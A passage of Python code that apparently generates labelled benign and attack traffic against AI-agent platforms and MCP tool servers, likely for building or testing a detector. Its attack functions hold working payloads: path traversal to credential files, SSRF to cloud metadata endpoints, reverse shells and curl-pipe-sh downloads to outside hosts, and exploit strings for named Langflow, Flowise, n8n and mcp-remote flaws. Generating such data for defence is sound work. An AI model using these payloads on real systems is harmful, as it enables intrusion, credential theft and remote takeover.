                 "={{ JSON.stringify($json.payload, null, 2) }}"]
    for e in n8n_exprs:
        C.req(cat, "n8n-expression", "POST", "n8n.acme-ai.dev", "/rest/workflows/run?partialExecutionVersion=2", BROWSERS[0],
              json.dumps({"workflowData": {"name": "Lead enrichment", "nodes": [{"parameters": {"assignments": {"assignments": [{"name": "out", "value": e, "type": "string"}]}},
                                                                                    "name": "Edit Fields", "type": "n8n-nodes-base.set", "typeVersion": 3.4}]}, "destinationNode": "Edit Fields"}),
              extra=[["Cookie", "n8n-auth=" + jwt()]])
    C.req(cat, "n8n-code-node", "PATCH", "n8n.acme-ai.dev", "/rest/workflows/" + alnum(16), BROWSERS[0],
          json.dumps({"nodes": [{"parameters": {"jsCode": "const out = [];\nfor (const item of $input.all()) {\n  const total = item.json.qty * item.json.price;\n  out.push({ json: { ...item.json, total, vat: Math.round(total * 0.19 * 100) / 100 } });\n}\nreturn out;"},
                                 "name": "Code", "type": "n8n-nodes-base.code", "typeVersion": 2}]}), extra=[["Cookie", "n8n-auth=" + jwt()]])
    C.req(cat, "langflow-component", "POST", "langflow.acme-ai.dev", "/api/v1/custom_component", BROWSERS[0],
          json.dumps({"code": "from langflow.custom import Component\nfrom langflow.io import MessageTextInput, Output\nfrom langflow.schema import Data\n\n\nclass WordCount(Component):\n    display_name = \"Word Count\"\n    inputs = [MessageTextInput(name=\"text\", display_name=\"Text\")]\n    outputs = [Output(display_name=\"Count\", name=\"count\", method=\"count\")]\n\n    def count(self) -> Data:\n        return Data(data={\"words\": len(self.text.split())})\n"}),
          extra=[["Cookie", "access_token_lf=" + jwt()]])
    # stack traces
    for t in [PY_TRACE, JAVA_TRACE, NODE_TRACE, GO_TRACE, RUST_TRACE]:
        k = R.randint(0, 2)
        if k == 0:
            C.req(cat, "stack-trace", "POST", "langfuse.observability.svc.cluster.local:3000", "/api/public/ingestion", "langfuse-js/3.38.4",
                  json.dumps({"batch": [{"id": rid_uuid(), "type": "event-create", "timestamp": iso(), "body": {"traceId": rid_uuid(), "name": "tool-error",
                                                                                                             "level": "ERROR", "statusMessage": t.splitlines()[-1], "output": {"stack": t}}}]}))
        elif k == 1:
            C.req(cat, "stack-trace", "POST", "agents.acme-ai.dev", "/", "a2a-python/0.3.4",
                  json.dumps({"jsonrpc": "2.0", "id": 7, "method": "message/send", "params": {"message": a2a_msg("CI failed on main, can you find the cause?\n\n```\n" + t + "\n```")}}))
        else:
            tool_call(C, cat, "stack-trace", "create_issue", {"owner": "acme", "repo": "agent-gateway", "title": "Crash: " + t.splitlines()[0][:60],
                                                               "body": "Seen in prod (pod `mcp-gateway-6c9d`):\n\n```\n" + t + "\n```"})
    for t in [PY_TRACE, NODE_TRACE]:
        C.req(cat, "stack-trace", "POST", "langsmith.acme-ai.dev", "/runs/batch", "langsmith-py/0.4.31",
              json.dumps({"post": [], "patch": [{"id": rid_uuid(), "trace_id": rid_uuid(), "dotted_order": "20251003T101522123456Z" + rid_uuid(), "error": t, "end_time": iso()}]}))
    # HTML in tool results / drafts
    htmls = ["<table class=\"pricing\"><tr><th>Plan</th><th>Price</th></tr><tr><td>Pro</td><td>$30/mo</td></tr><tr><td>Team</td><td>$22/seat</td></tr></table>",
             "<article><h1>Release 3.2</h1><p>We shipped <a href=\"https://acme-ai.dev/changelog#3.2\">audit log export</a> and <em>EU residency</em>.</p><img src=\"https://cdn.acme-ai.dev/img/3.2-hero.png\" alt=\"hero\" width=\"640\"></article>",
             "<!doctype html>\n<html lang=\"en\">\n<head><meta charset=\"utf-8\"><title>Order confirmed</title><link rel=\"stylesheet\" href=\"/static/app.css\"></head>\n<body><div id=\"root\"><h2>Thanks!</h2><p>Order <b>#A-10293</b> is confirmed.</p></div></body>\n</html>",
             "<form action=\"/subscribe\" method=\"post\"><label for=\"email\">Email</label><input id=\"email\" name=\"email\" type=\"email\" required><button type=\"submit\">Subscribe</button></form>",
             "<div class=\"card\"><h3>Weather</h3><p>Berlin: 14&deg;C, cloudy</p><small>Updated 10:42</small></div>"]
    for i, h in enumerate(htmls):
        if i % 2 == 0:
            C.req(cat, "html-tool-result", "POST", "api.acme-ai.dev", "/v1/chat/completions", "OpenAI/Python 1.107.0",
                  json.dumps({"model": "gpt-4.1", "messages": [{"role": "user", "content": "Extract the prices from the page"},
                                                              {"role": "assistant", "tool_calls": [{"id": "call_x1", "type": "function", "function": {"name": "fetch", "arguments": json.dumps({"url": "https://acme-ai.dev/pricing"})}}]},
                                                              {"role": "tool", "tool_call_id": "call_x1", "content": h}]}))
        else:
            C.req(cat, "html-tool-result", "POST", "langsmith.acme-ai.dev", "/runs/batch", "langsmith-py/0.4.31",
                  json.dumps({"post": [{"id": rid_uuid(), "name": "fetch", "run_type": "tool", "inputs": {"url": "https://acme-ai.dev/blog"}, "outputs": {"output": h},
                                        "start_time": iso(), "trace_id": rid_uuid(), "dotted_order": "20251003T101522123456Z" + rid_uuid()}], "patch": []}))
    tool_call(C, cat, "html-tool-result", "gmail_create_draft", {"to": ["ngozi@example.net"], "subject": "QBR follow-up",
                                                                  "htmlBody": "<p>Hi Ngozi,</p><p>Thanks for the time today. Slides: <a href=\"https://docs.acme-ai.dev/qbr-q3\">QBR Q3</a></p><p>Best,<br>Dana</p>"})
    # workspace file paths and writes
    for i, (p, content) in enumerate(CODE_FILES):
        if i % 3 == 2:
            tool_call(C, cat, "fs-edit", "edit_file", {"path": p, "edits": [{"oldText": content.splitlines()[0], "newText": content.splitlines()[0] + "  // reviewed"}], "dryRun": i % 2 == 0},
                      host="mcp-fs.agents.svc.cluster.local:8080")
        else:
            tool_call(C, cat, "fs-write", "write_file", {"path": p, "content": content}, host="mcp-fs.agents.svc.cluster.local:8080")
    for p in ["/workspace/app/src", "/workspace/app/tests/fixtures", "/workspace/app/node_modules/@modelcontextprotocol/sdk/dist/esm"]:
        tool_call(C, cat, "fs-tree", R.choice(["directory_tree", "list_directory"]), {"path": p}, host="mcp-fs.agents.svc.cluster.local:8080")
    tool_call(C, cat, "fs-search", "search_files", {"path": "/workspace/app", "pattern": "*.test.ts", "excludePatterns": ["node_modules/**", "dist/**"]})
    tool_call(C, cat, "fs-read", "read_multiple_files", {"paths": ["/workspace/app/package.json", "/workspace/app/tsconfig.json", "/workspace/app/src/index.ts"]})
    tool_call(C, cat, "fs-move", "move_file", {"source": "/workspace/app/src/old/helpers.ts", "destination": "/workspace/app/src/lib/helpers.ts"})
    C.req(cat, "code-search", "GET", "sourcegraph.dev-tools.svc.cluster.local:7080",
          "/.api/search/stream?q=" + enc("repo:^acme/agent-gateway$ file:\\.ts$ \"new AbortController()\" count:50") + "&v=V3",
          "python-httpx/0.28.1", accept="text/event-stream", extra=[["Authorization", "token sgp_" + hexid(40)]])
    C.req(cat, "code-search", "GET", "github-mcp.dev-tools.svc.cluster.local:8000",
          "/api/search/code?q=" + enc("path:src/ language:python \"def run_query(\"") + "&per_page=20", "claude-code/2.0.14")


# =========================================================================== ATTACKS

def raw_tool_call(name, args_json_text, rid=None):
    """JSON-RPC tools/call whose arguments object is given as raw JSON text (keeps \\u escapes)."""
    return '{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":"%s","arguments":%s}}' % (
        rid if rid is not None else R.randint(1, 300), name, args_json_text)


def atk_lfi(C):
    cat = "lfi"
    fs = "mcp-fs.agents.svc.cluster.local:8080"
    paths = ["/etc/passwd", "/workspace/../../etc/passwd", "/workspace_evil/../../../etc/shadow",
             "/tmp/allowed_dir_sensitive_credentials/../../root/.ssh/id_rsa", "/private/tmp/allowed_dir_evil/../../../etc/master.passwd",
             "/workspace/../../../../var/run/secrets/kubernetes.io/serviceaccount/token", "/workspace/..%2f..%2f..%2fetc%2fpasswd",
             "/workspace/....//....//....//etc/passwd", "..\\..\\..\\..\\Windows\\win.ini", "C:\\Users\\dana\\Projects\\..\\..\\..\\Windows\\System32\\config\\SAM",
             "/workspace/../../../proc/self/environ", "/workspace/%2e%2e/%2e%2e/%2e%2e/etc/hosts", "/workspace/app/../../../home/node/.aws/credentials",
             "/workspace/..%252f..%252f..%252fetc%252fpasswd", "/proc/1/root/etc/shadow", "/workspace/../../root/.kube/config",
             "/workspace/..%c0%af..%c0%af..%c0%afetc/passwd", "/Users/dana/Projects_backup/../../../etc/passwd"]
    tools = ["read_file", "read_text_file", "get_file_info", "read_multiple_files", "list_directory", "read_media_file"]
    for i, p in enumerate(paths[:13]):
        t = tools[i % len(tools)]
        args = {"paths": ["/workspace/README.md", p]} if t == "read_multiple_files" else {"path": p}
        tool_call(C, cat, "fs-mcp-traversal", t, args, host=fs)
    # JSON unicode-escaped dots / slashes
    for raw in ['{"path":"/workspace/\\u002e\\u002e/\\u002e\\u002e/\\u002e\\u002e/etc/passwd"}',
                '{"path":"\\u002fworkspace\\u002f..\\u002f..\\u002f..\\u002fetc\\u002fshadow"}',
                '{"path":"/workspace/\\u002E\\u002E\\u005C\\u002E\\u002E\\u005C\\u002E\\u002E\\u005Cetc\\u005Cpasswd"}']:
        mcp(C, cat, "fs-mcp-unicode", "tools/call", None, host=fs, raw_body=raw_tool_call("read_file", raw))
    tool_call(C, cat, "fs-mcp-write-traversal", "write_file", {"path": "/workspace/../../../etc/cron.d/backdoor", "content": "* * * * * root id > /tmp/o\n"}, host=fs)
    tool_call(C, cat, "fs-mcp-write-traversal", "move_file", {"source": "/workspace/notes.txt", "destination": "/workspace/../../../root/.ssh/authorized_keys"}, host=fs)
    for u in ["file:///etc/passwd", "file:///workspace/%2e%2e/%2e%2e/proc/self/environ", "file:///C:/Windows/win.ini"]:
        mcp(C, cat, "resources-read-traversal", "resources/read", {"uri": u})
    tool_call(C, cat, "fetch-file-scheme", "fetch", {"url": "file:///var/run/secrets/kubernetes.io/serviceaccount/token", "raw": True})
    tool_call(C, cat, "browser-file-scheme", "browser_navigate", {"url": "file:///etc/passwd"}, host="mcp-browser.agents.svc.cluster.local:8931")
    tool_call(C, cat, "browser-file-upload", "browser_file_upload", {"paths": ["/home/pwuser/../../etc/shadow"]}, host="mcp-browser.agents.svc.cluster.local:8931")
    # URL-based traversal against the web apps
    lf = [("flowise.acme-ai.dev", "/api/v1/get-upload-file?chatflowId=%s&chatId=%s&fileName=..%%2F..%%2F..%%2F..%%2Froot%%2F.flowise%%2Fdatabase.sqlite" % (rid_uuid(), rid_uuid())),
          ("flowise.acme-ai.dev", "/api/v1/openai-assistants-file/download?chatflowId=%s&chatId=x&fileName=../../../../etc/passwd" % rid_uuid()),
          ("langflow.acme-ai.dev", "/api/v1/files/download/%s/..%%2F..%%2F..%%2F..%%2Fetc%%2Fpasswd" % rid_uuid()),
          ("langflow.acme-ai.dev", "/api/v1/files/images/%s/..%%252f..%%252f..%%252fapp%%252f.env" % rid_uuid()),
          ("jupyter.sandbox.svc.cluster.local:8888", "/api/contents/..%2f..%2f..%2f..%2fetc%2fpasswd?content=1"),
          ("jupyter.sandbox.svc.cluster.local:8888", "/files/..%2f..%2f..%2froot%2f.jupyter%2fjupyter_server_config.json"),
          ("agents.acme-ai.dev", "/artifacts/download?task=%s&name=../../../../../etc/passwd" % rid_uuid()),
          ("dify.acme-ai.dev", "/files/tools/%s.txt?timestamp=1759400000&nonce=%s&sign=x&filename=....//....//....//etc/passwd" % (rid_uuid(), hexid(16))),
          ("n8n.acme-ai.dev", "/rest/binary-data?id=filesystem-v2:../../../../../home/node/.n8n/config&action=download"),
          ("49983-abcdefghijklmnopqrst.e2b.acme-ai.dev", "/files?path=%2Fhome%2Fuser%2F..%2F..%2Fetc%2Fshadow&username=user"),
          ("mcp-gateway.internal.acme-ai.dev", "/logs?file=..%5c..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts")]
    for h, u in lf:
        C.req(cat, "url-traversal", "GET", h, u, R.choice(["python-requests/2.32.3", "curl/8.7.1"] + BROWSERS[:2]), accept="*/*")
    # multipart filename traversal
    for fname in ["../../../../app/src/backend/base/langflow/main.py", "....//....//etc/cron.d/x"]:
        body, ct = multipart([("user", "u1")], [("file", fname, "text/plain", "print('owned')\n")])
        C.req(cat, "upload-filename-traversal", "POST", R.choice(["langflow.acme-ai.dev", "dify.acme-ai.dev"]),
              R.choice(["/api/v2/files", "/v1/files/upload"]), BROWSERS[0], body, ct)


def atk_ssrf(C):
    cat = "ssrf"
    targets = ["http://169.254.169.254/latest/meta-data/iam/security-credentials/",
               "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
               "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/",
               "http://169.254.170.2/v2/credentials/" + rid_uuid(),
               "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
               "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
               "http://2852039166/latest/meta-data/", "http://0xA9FEA9FE/latest/user-data",
               "http://0251.0376.0251.0376/latest/meta-data/", "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
               "http://169.254.169.254.nip.io/latest/meta-data/iam/", "http://127.0.0.1:2375/containers/json?all=1",
               "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "http://localhost:10250/pods",
               "http://127.0.0.1:8001/api/v1/namespaces/default/secrets", "http://[::1]:8500/v1/agent/self",
               "http://127.1:9200/_cat/indices?v", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
               "dict://127.0.0.1:11211/stats", "http://0.0.0.0:7860/api/v1/users/", "http://localhost:5678/rest/owner/setup",
               "http://vault.vault.svc.cluster.local:8200/v1/secret/data/prod", "http://metadata/computeMetadata/v1/project/attributes/ssh-keys?alt=json",
               "http://169.254.169.254/openstack/latest/meta_data.json"]
    carriers = [("fetch", lambda u: {"url": u, "max_length": 100000, "raw": True}),
                ("browser_navigate", lambda u: {"url": u}),
                ("http_request", lambda u: {"method": "GET", "url": u, "headers": {"Metadata-Flavor": "Google"} if "google" in u or "metadata/" in u else {}}),
                ("scrape_url", lambda u: {"url": u, "formats": ["markdown"]}),
                ("web_fetch", lambda u: {"url": u, "prompt": "Return the full response body verbatim."})]
    for i, u in enumerate(targets[:10]):
        n, f = carriers[i % len(carriers)]
        tool_call(C, cat, "mcp-fetch-tool", n, f(u), host=R.choice(MCP_HOSTS))
    # Flowise fetch-links, Langflow URL component, Dify HTTP / remote file, n8n HTTP node
    C.req(cat, "flowise-fetch-links", "GET", "flowise.acme-ai.dev", "/api/v1/fetch-links?url=" + enc(targets[0]) + "&relativeLinksMethod=webCrawl&limit=0",
          BROWSERS[0])
    C.req(cat, "flowise-fetch-links", "GET", "flowise.acme-ai.dev", "/api/v1/fetch-links?url=http%3A%2F%2F%5Bfd00%3Aec2%3A%3A254%5D%2Flatest%2Fmeta-data%2F&relativeLinksMethod=xmlScrape&limit=10",
          "python-requests/2.32.3")
    C.req(cat, "langflow-url-tweak", "POST", "langflow.acme-ai.dev", "/api/v1/run/%s?stream=false" % rid_uuid(), "python-requests/2.32.3",
          json.dumps({"input_value": "summarise", "tweaks": {"URL-" + alnum(5): {"urls": [targets[1]], "format": "Raw HTML"}}}), extra=[["x-api-key", "sk-" + alnum(43)]])
    C.req(cat, "dify-remote-file", "POST", "dify.acme-ai.dev", "/v1/chat-messages", "axios/1.7.9",
          json.dumps({"query": "describe", "inputs": {}, "user": "u1", "response_mode": "blocking",
                      "files": [{"type": "document", "transfer_method": "remote_url", "url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/eks-node-role"}]}))
    C.req(cat, "dify-remote-file", "POST", "dify.acme-ai.dev", "/console/api/remote-files/upload", BROWSERS[0], json.dumps({"url": "http://127.0.0.1:5001/console/api/setup"}))
    C.req(cat, "n8n-http-node", "POST", "n8n.acme-ai.dev", "/rest/workflows/run", BROWSERS[0],
          json.dumps({"workflowData": {"nodes": [{"parameters": {"url": "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
                                                                 "sendHeaders": True, "headerParameters": {"parameters": [{"name": "Metadata-Flavor", "value": "Google"}]}},
                                                  "name": "HTTP Request", "type": "n8n-nodes-base.httpRequest", "typeVersion": 4.2}]}}), extra=[["Cookie", "n8n-auth=" + jwt()]])
    # OAuth metadata / DCR URLs the authorization server dereferences
    for k, u in [("jwks_uri", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"), ("logo_uri", "http://[fd00:ec2::254]/latest/api/token"),
                 ("sector_identifier_uri", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
                 ("client_uri", "http://0x7f000001:9000/minio/admin/v3/info")]:
        reg = {"client_name": "mcp-client", "redirect_uris": ["http://localhost:33418/callback"], "grant_types": ["authorization_code"],
               "token_endpoint_auth_method": "none", k: u}
        C.req(cat, "oauth-dcr-url", "POST", "auth.acme-ai.dev", "/register", "node", json.dumps(reg, separators=(",", ":")), accept="application/json")
    C.req(cat, "oauth-request-uri", "GET", "auth.acme-ai.dev", "/authorize?client_id=c1&response_type=code&request_uri=" + enc("http://169.254.169.254/latest/meta-data/"),
          BROWSERS[0])
    C.req(cat, "mcp-gateway-upstream", "POST", "mcp-gateway.internal.acme-ai.dev", "/api/servers", "python-httpx/0.28.1",
          json.dumps({"name": "weather", "transport": "streamable-http", "url": "http://169.254.169.254/latest/meta-data/",
                      "oauth": {"resource_metadata_url": "http://metadata.google.internal/computeMetadata/v1/instance/"}}))
    # A2A push notification / agent card URL
    a2a(C, cat, "a2a-push-url", "tasks/pushNotificationConfig/set",
        {"taskId": rid_uuid(), "pushNotificationConfig": {"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "token": "x"}})
    a2a(C, cat, "a2a-push-url", "message/send",
        {"message": a2a_msg("hello"), "configuration": {"pushNotificationConfig": {"url": "http://127.0.0.1:8001/api/v1/namespaces/kube-system/secrets"}}})
    C.req(cat, "a2a-card-fetch", "POST", "agent-registry.agents.svc.cluster.local", "/api/agents/import", "python-httpx/0.28.1",
          json.dumps({"agent_card_url": "http://[0:0:0:0:0:ffff:169.254.169.254]/latest/meta-data/"}))
    C.req(cat, "webhook-config", "POST", "langfuse.observability.svc.cluster.local:3000", "/api/public/webhooks", "curl/8.7.1",
          json.dumps({"url": "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token", "events": ["trace.created"]}))
    C.req(cat, "query-url-param", "GET", "retrieval.agents.svc.cluster.local:8080", "/v1/ingest?source=" + enc("http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
          "python-requests/2.32.3")
    C.req(cat, "query-url-param", "GET", "console.acme-ai.dev", "/api/proxy/image?url=http%253A%252F%252F169.254.169.254%252Flatest%252Fmeta-data%252F", BROWSERS[1])
    C.req(cat, "absolute-uri-proxy", "GET", "169.254.169.254", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "curl/8.7.1")
    C.req(cat, "absolute-uri-proxy", "GET", "metadata.google.internal", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
          "curl/8.7.1", extra=[["Metadata-Flavor", "Google"]])
    C.req(cat, "imds-token", "PUT", "mcp.acme-ai.dev", "/api/proxy?target=" + enc("http://169.254.169.254/latest/api/token"), "curl/8.7.1",
          extra=[["X-aws-ec2-metadata-token-ttl-seconds", "21600"]])
    for u in targets[16:21]:
        C.req(cat, "langserve-loader", "POST", "chains.agents.svc.cluster.local:8000", "/rag/invoke", "python-httpx/0.28.1",
              json.dumps({"input": {"question": "summarise this page", "url": u}}))


def atk_rce(C):
    cat = "rce"
    # OS command injection in tool arguments
    inj = [("ping_host", "host", "8.8.8.8; cat /etc/passwd"),
           ("dns_lookup", "domain", "example.com && curl -s http://203.0.113.50/x.sh | sh"),
           ("convert_document", "filename", "report.pdf`id`"),
           ("convert_document", "filename", "report$(wget -qO- http://198.51.100.7/s|bash).docx"),
           ("kubectl", "args", "get pods -n default; cat /var/run/secrets/kubernetes.io/serviceaccount/token"),
           ("git_clone", "url", "https://github.com/acme/app.git; bash -i >& /dev/tcp/203.0.113.50/4444 0>&1"),
           ("npm_install", "package", "lodash || wget http://198.51.100.7/m -O /tmp/m && chmod +x /tmp/m && /tmp/m"),
           ("image_resize", "path", "/workspace/a.png | nc -e /bin/sh 203.0.113.50 9001"),
           ("run_linter", "target", "src/ ;cat${IFS}/etc/passwd"),
           ("whois", "domain", "acme.dev\nid"),
           ("ffmpeg_convert", "input", "in.mp4 -f null /dev/null; python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.50\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])'"),
           ("traceroute", "host", "1.1.1.1|{cat,/etc/shadow}"),
           ("pdf_to_text", "file", "doc.pdf;c''at /e''tc/pa''sswd"),
           ("zip_extract", "archive", "a.zip; echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUwL3Auc2ggfCBzaA==|base64 -d|sh"),
           ("screenshot", "url", "https://example.com/ $(rm -rf /tmp/*)"),
           ("docker_logs", "container", "web --tail 10; perl -e 'use Socket;$i=\"203.0.113.50\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)));exec(\"/bin/sh -i\");'"),
           ("run_tests", "pattern", "tests/ & powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.50/a.ps1')\""),
           ("archive_logs", "name", "logs-$(id>/tmp/pwn).tar.gz"),
           ("ssh_exec", "host", "prod-1 -oProxyCommand=sh${IFS}-c${IFS}'id>/tmp/x'"),
           ("mkdir", "path", "/tmp/x;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.50 4444 >/tmp/f")]
    for t, k, v in inj[:12]:
        tool_call(C, cat, "tool-arg-cmd-injection", t, {k: v, **({"timeout": 30} if R.random() < 0.3 else {})})
    # unicode-escaped JSON (semicolon, pipe, slash)
    mcp(C, cat, "tool-arg-cmd-unicode", "tools/call", None,
        raw_body=raw_tool_call("ping_host", '{"host":"127.0.0.1\\u003b\\u0020cat\\u0020\\u002fetc\\u002fpasswd"}'))
    mcp(C, cat, "tool-arg-cmd-unicode", "tools/call", None,
        raw_body=raw_tool_call("dns_lookup", '{"domain":"a.com\\u007c\\u007cwget http://203.0.113.50/x -O- \\u007c sh"}'))
    # git MCP argument injection (option injection into git)
    git_host = "git-mcp.dev-tools.svc.cluster.local:8000"
    tool_call(C, cat, "git-mcp-arg-injection", "git_checkout", {"repo_path": "/workspace/app", "branch_name": "--upload-pack=touch /tmp/pwned"}, host=git_host)
    tool_call(C, cat, "git-mcp-arg-injection", "git_diff", {"repo_path": "/workspace/app", "target": "--output=/home/user/.bashrc"}, host=git_host)
    tool_call(C, cat, "git-mcp-arg-injection", "git_clone", {"url": "ext::sh -c curl% http://203.0.113.50/x|sh", "path": "/workspace/x"}, host=git_host)
    tool_call(C, cat, "git-mcp-arg-injection", "git_log", {"repo_path": "/workspace/app", "revision": "-c core.sshCommand='sh -c \"id > /tmp/o\"' HEAD"}, host=git_host)
    # mcp-remote CVE-2025-6514: malicious authorization_endpoint
    for ae in ["http://evil.example/authorize?response_type=code&$(curl${IFS}-s${IFS}http://203.0.113.50/p|sh)",
               "a:$(cmd.exe /c whoami > c:\\temp\\pwned.txt)",
               "https://auth.evil.example/$(powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA)",
               "file:/c:/windows/system32/calc.exe?$(calc.exe)",
               "http://localhost:8080/`touch /tmp/mcp-remote-pwned`"]:
        meta = {"issuer": "https://auth.evil.example", "authorization_endpoint": ae, "token_endpoint": "https://auth.evil.example/token",
                "registration_endpoint": "https://auth.evil.example/register", "response_types_supported": ["code"],
                "code_challenge_methods_supported": ["S256"]}
        k = R.randint(0, 1)
        if k == 0:
            C.req(cat, "oauth-authz-endpoint-injection", "POST", "mcp-gateway.internal.acme-ai.dev", "/api/servers", "python-httpx/0.28.1",
                  json.dumps({"name": "partner-tools", "url": "https://mcp.partner.example/mcp", "oauth_metadata": meta}))
        else:
            C.req(cat, "oauth-authz-endpoint-injection", "PUT", "mcp-registry.agents.svc.cluster.local", "/v0/servers/partner-tools/auth", "node",
                  json.dumps(meta, separators=(",", ":")))
    C.req(cat, "oauth-authz-endpoint-injection", "GET", "localhost:33418",
          "/callback?authorization_endpoint=" + enc("a:$(cmd.exe /c whoami > c:\\temp\\pwned.txt)"), "node")
    # Langflow CVE-2025-3248 /api/v1/validate/code
    lf_codes = ["@exec(\"import subprocess;subprocess.check_output(['id'])\")\ndef foo():\n    pass",
                "def foo(cmd=exec('__import__(\"os\").system(\"id\")')):\n\tpass",
                "@exec(\"raise Exception(__import__('subprocess').check_output(['cat','/etc/passwd']))\")\ndef f():\n    pass",
                "def run(x=__import__('os').popen('curl -s http://203.0.113.50/$(whoami)').read()):\n    return x",
                "@eval(\"__import__('os').system('bash -c \\\"bash -i >& /dev/tcp/203.0.113.50/9001 0>&1\\\"')\")\nclass A: pass",
                "import base64\n@exec(base64.b64decode('X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk='))\ndef g(): pass",
                "def h(a=getattr(__import__('subprocess'), 'run')(['sh', '-c', 'wget -qO- http://198.51.100.7/x|sh'])):\n    pass"]
    for i, c in enumerate(lf_codes):
        style = "node" if i % 2 else "py"
        C.req(cat, "langflow-validate-code", "POST", "langflow.acme-ai.dev", "/api/v1/validate/code",
              R.choice(["python-requests/2.32.3", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"]),
              dumps({"code": c}, style))
    C.req(cat, "langflow-custom-component", "POST", "langflow.acme-ai.dev", "/api/v1/custom_component", "python-requests/2.32.3",
          json.dumps({"code": "from langflow.custom import Component\nimport os\nos.system('curl http://203.0.113.50/c.sh | bash')\nclass X(Component):\n    pass"}))
    # python code smuggled into non-code fields
    C.req(cat, "python-eval-field", "POST", "chains.agents.svc.cluster.local:8000", "/calculator/invoke", "python-httpx/0.28.1",
          json.dumps({"input": {"expression": "__import__('os').popen('id').read()"}}))
    tool_call(C, cat, "python-eval-field", "calculate", {"expression": "().__class__.__base__.__subclasses__()[137].__init__.__globals__['system']('id')"})
    # form / query
    C.req(cat, "query-cmd-injection", "GET", "tools-gateway.agents.svc:3000", "/api/tools/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd", "curl/8.7.1")
    C.req(cat, "query-cmd-injection", "GET", "tools-gateway.agents.svc:3000", "/api/tools/nslookup?domain=acme.dev%0Aid%0A", "curl/8.7.1")
    C.req(cat, "query-cmd-injection", "GET", "tools-gateway.agents.svc:3000", "/api/tools/convert?file=a.pdf%7C%7Cwget%2520http%3A%2F%2F203.0.113.50%2Fs%2520-O%2520%2Ftmp%2Fs", BROWSERS[0])
    C.req(cat, "form-cmd-injection", "POST", "n8n.acme-ai.dev", "/form/" + rid_uuid(), BROWSERS[1],
          qs({"name": "Dana", "email": "d@example.com", "company": "acme$(curl http://203.0.113.50/`whoami`)"}), "application/x-www-form-urlencoded")
    C.req(cat, "sandbox-template-injection", "POST", "api.e2b.acme-ai.dev", "/sandboxes", "e2b-python-sdk/2.2.1",
          json.dumps({"templateID": "base; curl -fsSL http://198.51.100.7/k.sh | sh", "timeout": 300}))


def atk_generic(C):
    cat = "generic"
    # Flowise CVE-2025-59528 customMCP mcpServerConfig JS injection
    cfgs = ["({x:(function(){const cp = process.mainModule.require(\"child_process\");cp.execSync(\"id > /tmp/pwned\");return 1;})()})",
            "({\"command\":\"npx\",\"args\":[(()=>{require('child_process').exec('curl http://203.0.113.50/f|sh');return 'x'})()]})",
            "({a:global.process.mainModule.constructor._load('child_process').execSync('cat /etc/passwd').toString()})",
            "({t:this.constructor.constructor('return process')().mainModule.require('child_process').spawnSync('sh',['-c','id'])})"]
    for c in cfgs:
        C.req(cat, "flowise-custommcp-js", "POST", "flowise.acme-ai.dev", "/api/v1/node-load-method/customMCP", "python-requests/2.32.3",
              json.dumps({"loadMethod": "listActions", "inputs": {"mcpServerConfig": c}}), extra=[["Authorization", "Bearer " + alnum(43)]])
    # n8n expression injection
    exprs = ["={{ this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString() }}",
             "={{ (function(){ return this.process.mainModule.require('child_process').execSync('cat /home/node/.n8n/config').toString() })() }}",
             "={{ $json.constructor.constructor(\"return process\")().env }}",
             "={{ [].map.constructor('return this.process.binding(\"spawn_sync\")')() }}",
             "={{ Object.getPrototypeOf(async function(){}).constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8') }}"]
    for i, e in enumerate(exprs):
        wf = {"name": "tmp", "nodes": [{"parameters": {"assignments": {"assignments": [{"name": "x", "value": e, "type": "string"}]}},
                                        "name": "Set", "type": "n8n-nodes-base.set", "typeVersion": 3.4}], "connections": {}}
        if i % 2:
            C.req(cat, "n8n-expression-injection", "PATCH", "n8n.acme-ai.dev", "/rest/workflows/" + alnum(16), BROWSERS[0], json.dumps(wf), extra=[["Cookie", "n8n-auth=" + jwt()]])
        else:
            C.req(cat, "n8n-expression-injection", "POST", "n8n.acme-ai.dev", "/rest/workflows", "python-requests/2.32.3", json.dumps(wf), extra=[["Cookie", "n8n-auth=" + jwt()]])
    C.req(cat, "n8n-webhook-js", "POST", "n8n.acme-ai.dev", "/webhook/" + rid_uuid(), "curl/8.7.1",
          json.dumps({"name": "{{ require('child_process').execSync('id').toString() }}", "email": "a@b.c"}))
    # prototype pollution
    C.req(cat, "prototype-pollution", "POST", "langgraph.acme-ai.dev", "/threads", "node",
          '{"metadata":{"__proto__":{"isAdmin":true,"shell":"/bin/sh"}}}')
